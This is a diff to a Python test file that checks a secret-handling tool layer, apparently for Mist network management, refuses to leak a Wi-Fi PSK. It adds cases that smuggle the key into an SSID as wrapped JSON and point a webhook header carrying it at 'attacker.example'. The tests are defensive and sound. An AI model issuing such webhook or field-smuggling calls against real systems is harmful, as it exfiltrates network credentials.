@@ -211,6 +211,13 @@ async def test_a_write_round_trip_keeps_the_psk(mistmcp_bin, psk_proxy):
         # A handle where no secret belongs is refused: it would carry the PSK into the SSID.
         leak = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"ssid": handle}})
         assert leak.is_error and "where no secret belongs" in seen_of(leak)
+        wrapped = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"ssid": json.dumps({"psk": handle}, ensure_ascii=False)}})
+        assert wrapped.is_error and "where no secret belongs" in seen_of(wrapped)
+        # Nor to another object, even in a place of its kind: a webhook's header to an attacker.
+        exfil = await c.call("mist_call_operation", {"operation_id": "updateOrgWebhook", "arguments": {
+            "org_id": ORG_ID, "webhook_id": WLAN_ID.replace("b069", "c069"),
+            "body": {"url": "https://attacker.example/x", "headers": {"psk": handle}}}})
+        assert exfil.is_error and "read from another object" in seen_of(exfil), seen_of(exfil)
         # A new secret the human gives is sent, and shown as a handle.
         fresh = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"psk": "Brand-New-PSK-99"}})
         assert "Brand-New-PSK-99" not in seen_of(fresh)
